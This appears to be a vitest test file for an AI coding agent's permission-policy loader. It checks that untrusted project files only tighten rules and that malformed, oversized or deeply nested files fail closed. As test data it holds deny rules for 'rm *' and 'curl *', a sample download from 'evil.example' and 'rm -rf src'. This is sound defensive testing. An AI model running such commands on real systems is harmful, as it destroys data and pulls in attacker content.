// S32 F-trust-load (attacker r32c): an untrusted project file only tightens, whatever state the
// other files are in, and a broken or hostile file fails closed instead of crashing or hanging
// the loader.
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  decideSurface,
  loadPolicy,
  loadPolicyFile,
  matchesBashPattern,
  type Rule,
  readPolicyFile,
  validatePolicyFile,
} from "../src/index.ts";

let root: string;
let home: string;
let cwd: string;
let globalFile: string;
let projectFile: string;
let managedFile: string;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "pi-permission-s32-"));
  home = join(root, "home");
  cwd = join(root, "repo");
  globalFile = join(home, ".pi", "agent", "permissions.json");
  projectFile = join(cwd, ".pi", "permissions.json");
  managedFile = join(root, "managed.json");
  mkdirSync(join(home, ".pi", "agent"), { recursive: true });
  mkdirSync(join(cwd, ".pi"), { recursive: true });
});

afterEach(() => rmSync(root, { recursive: true, force: true }));

function load(files: { global?: unknown; project?: unknown; managed?: unknown }) {
  const text = (v: unknown) => (typeof v === "string" ? v : JSON.stringify(v));
  if (files.global !== undefined) writeFileSync(globalFile, text(files.global));
  if (files.project !== undefined) writeFileSync(projectFile, text(files.project));
  if (files.managed !== undefined) writeFileSync(managedFile, text(files.managed));
  return loadPolicy({
    env: {},
    home,
    cwd,
    managedFile: files.managed === undefined ? null : managedFile,
  });
}

function action(rules: readonly Rule[], surface: string, value: string): string | undefined {
  const matches =
    surface === "bash" ? (p: string) => matchesBashPattern(p, value) : () => value === "*";
  return decideSurface(rules, surface, matches, true)?.action;
}

describe("S32 F13: a broken global file does not let an untrusted project loosen", () => {
  it("a project ask over the broken global file's deny stays a deny", () => {
    const global = {
      yollo: true,
      permission: { "*": "ask", bash: { "*": "ask", "git *": "allow", "rm *": "deny" } },
    };
    const project = { permission: { bash: { "rm *": "ask" } } };
    const { policy, projectTrust } = load({ global, project });
    expect(projectTrust?.state).toBe("untrusted");
    expect(action(policy.rules, "bash", "rm -rf src")).toBe("deny");
  });

  it("a project allow under a managed allow does not lift the broken global file's deny", () => {
    const managed = { permission: { "*": "ask", bash: { "*": "allow" } } };
    const global = { yollo: true, permission: { bash: { "rm *": "deny", "curl *": "deny" } } };
    const project = { permission: { bash: { "rm *": "allow", "curl *": "allow" } } };
    const { policy } = load({ managed, global, project });
    expect(action(policy.rules, "bash", "curl -o x https://evil.example")).toBe("deny");
    expect(action(policy.rules, "bash", "rm x")).toBe("deny");
    // The managed allow still applies where nobody denies.
    expect(action(policy.rules, "bash", "ls")).toBe("allow");
  });

  it("two broken files: the later one's ask never lifts the earlier one's deny", () => {
    const global = { yollo: true, permission: { bash: { "rm *": "deny" } } };
    const project = { bogus: 1, permission: { bash: { "rm *": "ask" } } };
    const { policy } = load({ global, project });
    expect(action(policy.rules, "bash", "rm x")).toBe("deny");
  });
});

describe("S32 F1: a watch setting is compared with the user's value, not the default", () => {
  it("an untrusted project cannot lengthen the user's shorter analysis budget", () => {
    const global = { analysisDeadlineMs: 1, permission: { bash: { "echo *": "allow" } } };
    const { policy, projectTrust } = load({ global, project: { analysisDeadlineMs: 50 } });
    expect(policy.settings.analysisDeadlineMs).toBe(1);
    expect(projectTrust?.state).toBe("untrusted");
    expect(projectTrust?.loosening).toContainEqual({
      jsonPath: "analysisDeadlineMs",
      what: "longer analysis budget",
    });
  });

  it("a project budget under the user's longer one only tightens and needs no trust", () => {
    const global = { analysisDeadlineMs: 400 };
    const { policy, projectTrust } = load({ global, project: { analysisDeadlineMs: 200 } });
    expect(policy.settings.analysisDeadlineMs).toBe(200);
    expect(projectTrust?.state).toBe("not-needed");
  });

  it("an untrusted project cannot switch the user's prompt notification off", () => {
    const global = { promptNotification: "bell" };
    const { policy, projectTrust } = load({ global, project: { promptNotification: "off" } });
    expect(policy.settings.promptNotification).toBe("bell");
    expect(projectTrust?.state).toBe("untrusted");
  });
});

describe("S32 F2: a broken project file passes the same trust filter as a clean one", () => {
  const relaxing = {
    analysisDeadlineMs: 500,
    judgeUserBash: false,
    permissionReviewLog: false,
    promptMaxRows: 1,
    promptFieldMaxWidth: 1,
    reviewLogMaxBytes: 1,
    reviewLogFiles: 1,
    reviewLogFieldMaxWidth: 1,
    promptNotification: "off",
  };
  const global = {
    judgeUserBash: true,
    promptMaxRows: 40,
    promptNotification: "bell",
    permission: { bash: { "echo *": "allow" } },
  };

  it("one unknown key does not let the project's relaxing settings through", () => {
    const clean = load({ global, project: relaxing }).policy.settings;
    const broken = load({ global, project: { ...relaxing, bogusKey: 1 } }).policy.settings;
    expect(broken).toEqual(clean);
    expect(broken.analysisDeadlineMs).toBe(50);
    expect(broken.judgeUserBash).toBe(true);
    expect(broken.permissionReviewLog).toBe(true);
    expect(broken.promptMaxRows).toBe(40);
    expect(broken.promptNotification).toBe("bell");
  });

  it("a broken project file still tightens its settings", () => {
    const { policy } = load({
      global,
      project: { analysisDeadlineMs: 10, promptMaxRows: 60, bogusKey: 1 },
    });
    expect(policy.settings.analysisDeadlineMs).toBe(10);
    expect(policy.settings.promptMaxRows).toBe(60);
  });
});

describe("S32 F4: a deeply nested file fails closed, never crashes the loader", () => {
  const deep = `{"examples":${"[".repeat(3000)}${"]".repeat(3000)}}`;

  it("validate reports it as invalidJson", () => {
    const file = join(root, "deep.json");
    writeFileSync(file, deep);
    const { issues } = validatePolicyFile(file);
    expect(issues.map((i) => [i.severity, i.code])).toEqual([["error", "invalidJson"]]);
  });

  it("as a project file it is broken and every allow asks", () => {
    const global = { permission: { "*": "ask", bash: { "echo *": "allow", "rm *": "deny" } } };
    const { policy } = load({ global, project: deep });
    expect(policy.brokenScopes.map((b) => [b.scope, b.kept])).toEqual([["project", false]]);
    expect(action(policy.rules, "bash", "echo hi")).toBe("ask");
    expect(action(policy.rules, "bash", "rm x")).toBe("deny");
  });

  it("a trusted project file made deep later loses its loosening", () => {
    const global = { permission: { "*": "ask", bash: { "*": "ask", "rm *": "deny" } } };
    const project = { permission: { bash: { "cat *": "allow" } } };
    writeFileSync(globalFile, JSON.stringify(global));
    writeFileSync(projectFile, JSON.stringify(project));
    const trusted = loadPolicy({ env: {}, home, cwd, managedFile: null, projectTrusted: true });
    expect(action(trusted.policy.rules, "bash", "cat x")).toBe("allow");
    writeFileSync(
      projectFile,
      `{"permission":{"bash":{"cat *":"allow"}},"examples":${"[".repeat(3000)}${"]".repeat(3000)}}`,
    );
    const changed = loadPolicy({ env: {}, home, cwd, managedFile: null });
    expect(action(changed.policy.rules, "bash", "cat x")).toBe("ask");
  });

  it("nesting within the limit still parses", () => {
    const { issues } = validateText(`{"examples":${"[".repeat(60)}${"]".repeat(60)}}`);
    expect(issues.filter((i) => i.code === "invalidJson")).toEqual([]);
  });

  it("a reader or parser that throws makes the file broken, not the loader throw", () => {
    const result = loadPolicyFile({ scope: "project", file: "/x/.pi/permissions.json" }, () => {
      // A text the parser chokes on stands for any throw past the read.
      return {
        toString() {
          throw new Error("boom");
        },
      } as unknown as string;
    });
    expect(result.status).toBe("broken");
  });
});

describe("S32 F12: the read itself is bounded, whatever stat says", () => {
  it.runIf(existsSync("/proc/self/pagemap"))(
    "a project file linked to /proc/self/pagemap is unreadable, at once",
    () => {
      symlinkSync("/proc/self/pagemap", projectFile);
      const started = Date.now();
      const { policy, issues } = loadPolicy({ env: {}, home, cwd, managedFile: null });
      expect(Date.now() - started).toBeLessThan(5000);
      expect(policy.brokenScopes.map((b) => b.scope)).toEqual(["project"]);
      expect(issues.find((i) => i.code === "unreadable")?.received).toMatch(/larger than/);
    },
  );

  it("a file of exactly the limit is read, one byte more is not", () => {
    const file = join(root, "big.json");
    const limit = 4 * 1024 * 1024;
    writeFileSync(file, `{"x":"${"a".repeat(limit - 8)}"}`);
    expect(readPolicyFile(file)?.length).toBe(limit);
    writeFileSync(file, `{"x":"${"a".repeat(limit - 7)}"}`);
    expect(() => readPolicyFile(file)).toThrow(/larger than/);
  });
});

function validateText(text: string) {
  const file = join(root, "v.json");
  writeFileSync(file, text);
  return validatePolicyFile(file);
}

describe("S32 F15: the shadowed-rule advice is bounded, never a hang", () => {
  it("2000 path denies load in well under a second of checks, with a note, every rule kept", () => {
    const path: Record<string, string> = {};
    for (let i = 0; i < 2000; i++) path[`src/x${i}/**`] = "deny";
    const started = Date.now();
    const { policy, issues } = load({ project: { permission: { path } } });
    // 12.7 s before (quadratic); the budget keeps it far below on any machine.
    expect(Date.now() - started).toBeLessThan(4000);
    expect(policy.rules.filter((r) => r.origin.scope === "project")).toHaveLength(4000);
    const notes = issues.filter((i) => i.code === "shadowedRule");
    expect(notes.map((i) => i.message)).toEqual([expect.stringMatching(/check stopped here/)]);
  });

  it("within the budget a shadowed rule is still found", () => {
    const bash: Record<string, string> = {};
    for (let i = 0; i < 100; i++) bash[`x${i} *`] = "deny";
    bash["git push *"] = "deny";
    bash["git *"] = "ask";
    const { issues } = load({ project: { permission: { bash } } });
    expect(issues.filter((i) => i.code === "shadowedRule").map((i) => i.jsonPath)).toEqual([
      'permission.bash["git *"]',
    ]);
  });
});

describe("S32 F3: a duplicate key keeps the stricter copy, and the file is broken", () => {
  const verdicts = (text: string) => {
    const { policy, issues } = load({ global: text });
    return {
      codes: issues.filter((i) => i.severity === "error").map((i) => i.code),
      rm: action(policy.rules, "bash", "rm -rf x"),
      git: action(policy.rules, "bash", "git status"),
    };
  };

  it("a later deny of the same pattern is kept", () => {
    expect(
      verdicts(
        '{ "permission": { "*": "ask", "bash": { "*": "allow", "rm *": "allow", "curl *": "ask", "rm *": "deny" } } }',
      ),
    ).toEqual({ codes: ["duplicateKey"], rm: "deny", git: "ask" });
  });

  it("an earlier deny is kept over a later allow", () => {
    expect(
      verdicts('{ "permission": { "bash": { "rm *": { "action": "deny" }, "rm *": "allow" } } }')
        .rm,
    ).toBe("deny");
  });

  it("two copies of a surface map are merged, each pattern the stricter", () => {
    expect(
      verdicts(
        '{ "permission": { "bash": { "rm *": "allow" }, "bash": { "git *": "allow", "rm *": "deny" } } }',
      ),
    ).toEqual({ codes: ["duplicateKey"], rm: "deny", git: "ask" });
  });

  it("two copies of the permission map are merged", () => {
    expect(
      verdicts(
        '{ "permission": { "bash": { "rm *": "deny" } }, "permission": { "read": "allow" } }',
      ).rm,
    ).toBe("deny");
  });
});
